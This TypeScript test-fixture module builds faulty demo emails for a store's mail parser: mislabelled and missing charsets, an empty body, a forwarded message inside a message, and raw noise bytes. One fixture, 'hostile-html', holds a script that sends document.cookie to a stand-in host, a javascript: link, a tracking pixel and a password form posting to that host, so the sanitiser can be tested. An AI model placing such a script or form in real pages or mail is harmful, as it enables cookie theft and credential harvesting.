import { demoStores } from '../demo-stores.ts';
import { buyers } from './correspondents.ts';
import type { Correspondent } from './letter.ts';
import { encodedWords, encodeText } from './mime-encoding.ts';
import { messagePart, multipart, textPart, wholeMessage } from './mime-part.ts';
import type { SpecialMail } from './special-mail.ts';
import { dateHeader } from './write-letter.ts';

const storeAddress = (key: SpecialMail['store']) => demoStores.find((s) => s.key === key)!.senderAddress;

/** ASCII headers of a plain mail. */
function head(from: Correspondent, key: string, store: SpecialMail['store'], now: Date): string[] {
  const name = encodedWords(from.name, 'utf-8', 'B');
  return [
    `From: ${name} <${from.address}>`,
    `To: <${storeAddress(store)}>`,
    dateHeader(now, 0.5, from.offset),
    `Message-ID: <${key}@mail.${from.address.split('@')[1]}>`,
  ];
}

const mislabelledText =
  "Bonjour,\n\nLe délai annoncé était de six semaines ; la fenêtre à soufflet (commande MP-2026-1174) n'est toujours pas arrivée et le maçon a déjà préparé l'ouverture, 60 × 45 cm. Où en êtes-vous ?\n\nÀ bientôt,\nÉloïse Vasseur";

const missingCharsetText =
  'Добрый день!\n\nПо договору оплату за 40 дверей отправили сегодня, копия платёжки во вложении позже. Просим подтвердить получение и дату отгрузки.\n\nС уважением, Кузнецов';

const hostileHtml = `<html><head><style>body{display:none} *{position:fixed}</style></head><body onload="alert(1)">
<script>document.location='https://tracker.example/steal?c='+document.cookie</script>
<p>Good day, please quote 500 pcs steel door 860 x 2050 mm, see our list on the website.</p>
<img src="https://tracker.example/pixel.gif?id=demo" width="1" height="1" alt="">
<p><a href="javascript:alert(1)">Open purchase list</a></p><form action="https://tracker.example/login"><input name="password"></form>
<p>Mr. James Harlan<br>Purchasing, Harlan Import</p></body></html>`;

const harlan: Correspondent = {
  name: 'James Harlan',
  address: 'j.harlan@harlan-import.example',
  country: 'US',
  offset: '-0500',
};
const dealer: Correspondent = {
  name: 'Fenster Kaiser Service',
  address: 'service@fenster-kaiser.example',
  country: 'DE',
  offset: '+0100',
};

/** Bytes that are no mail at all: no header, no line ends, zero bytes; the same on every run. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 0x2545f491;
  for (let i = 0; i < length; i += 1) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    bytes[i] = state >>> 24;
    // A lone dot, CR or LF would be the transport's business, not the parser's.
    if (bytes[i] === 10 || bytes[i] === 13 || bytes[i] === 46) bytes[i] = 0;
  }
  return bytes;
}

export const faultyMail: SpecialMail[] = [
  {
    key: 'mislabelled-charset',
    store: 'maisonporte',
    envelopeFrom: buyers.vasseur.address,
    language: 'fr',
    subject: 'Fenêtre à soufflet : délai dépassé',
    note: 'UTF-8 bytes that the header calls ISO-8859-1',
    write: (now) =>
      wholeMessage(
        [
          ...head(buyers.vasseur, 'mislabelled-charset', 'maisonporte', now),
          `Subject: ${encodedWords('Fenêtre à soufflet : délai dépassé', 'utf-8', 'Q')}`,
        ],
        textPart('plain', mislabelledText, { charset: 'utf-8', statedCharset: 'iso-8859-1', encoding: '8bit' }),
      ),
  },
  {
    key: 'missing-charset',
    store: 'yuzhong',
    envelopeFrom: buyers.kuznetsov.address,
    language: 'ru',
    subject: 'Оплата за двери отправлена, просим подтвердить',
    note: 'windows-1251 with no charset anywhere, eight-bit subject',
    write(now) {
      const part = textPart('plain', missingCharsetText, {
        charset: 'windows-1251',
        statedCharset: null,
        encoding: '8bit',
      });
      const subject = encodeText('Subject: Оплата за двери отправлена, просим подтвердить\r\n', 'windows-1251');
      return Buffer.concat([subject, wholeMessage(head(buyers.kuznetsov, 'missing-charset', 'yuzhong', now), part)]);
    },
  },
  {
    key: 'empty-body',
    store: 'maisonporte',
    envelopeFrom: buyers.weissmann.address,
    language: null,
    subject: 'Wann wird das Ersatzfenster zu MP-2026-1195 geliefert???',
    note: 'Everything in the subject, empty body',
    write: (now) =>
      wholeMessage(
        [
          ...head(buyers.weissmann, 'empty-body', 'maisonporte', now),
          'Subject: Wann wird das Ersatzfenster zu MP-2026-1195 geliefert???',
        ],
        textPart('plain', '', { charset: 'utf-8', encoding: '7bit' }),
      ),
  },
  {
    key: 'hostile-html',
    store: 'yuzhong',
    envelopeFrom: harlan.address,
    language: 'en',
    subject: 'Purchase inquiry 500 pcs',
    note: 'HTML with script, style over the page, tracking pixel and a form: shown safe',
    write: (now) =>
      wholeMessage(
        [...head(harlan, 'hostile-html', 'yuzhong', now), 'Subject: Purchase inquiry 500 pcs'],
        textPart('html', hostileHtml, { charset: 'utf-8', encoding: 'quoted-printable' }),
      ),
  },
  {
    key: 'mail-in-mail',
    store: 'maisonporte',
    envelopeFrom: dealer.address,
    language: 'de',
    subject: 'WG: Kundenanfrage Terrassentür (Original im Anhang)',
    note: 'The original as message/rfc822 inside',
    write(now) {
      const customer: Correspondent = {
        name: 'Gerda Jürgensen',
        address: 'gerda.juergensen@foehr.example',
        country: 'DE',
        offset: '+0100',
      };
      const original = wholeMessage(
        [
          ...head(customer, 'juergensen-original', 'maisonporte', now),
          `Subject: ${encodedWords('Terrassentür für Reetdachhaus', 'utf-8', 'Q')}`,
        ],
        textPart(
          'plain',
          'Moin,\n\nwir brauchen eine zweiflüglige Terrassentür aus Holz-Aluminium, 1,60 m breit und 2,05 m hoch, nach außen öffnend, seewasserfest (Föhr!).\n\nGerda Jürgensen',
          {
            charset: 'utf-8',
            encoding: 'quoted-printable',
          },
        ),
      );
      const text = textPart(
        'plain',
        'Guten Tag,\n\ndiese Anfrage können wir nicht bedienen. Bitte wenden Sie sich direkt an die Kundin, sie ist einverstanden.\n\nFenster Kaiser Service',
        {
          charset: 'utf-8',
          encoding: 'quoted-printable',
        },
      );
      return wholeMessage(
        [
          ...head(dealer, 'mail-in-mail', 'maisonporte', now),
          `Subject: ${encodedWords('WG: Kundenanfrage Terrassentür (Original im Anhang)', 'utf-8', 'Q')}`,
        ],
        multipart('mixed', [text, messagePart(original)]),
      );
    },
  },
  {
    key: 'not-a-mail',
    store: 'yuzhong',
    envelopeFrom: 'scanner@office-printer.example',
    language: null,
    subject: null,
    note: 'Bytes that are no mail: becomes a ticket that says so',
    write: () => Buffer.concat([noise(1800), Buffer.from('\r\n')]),
  },
];
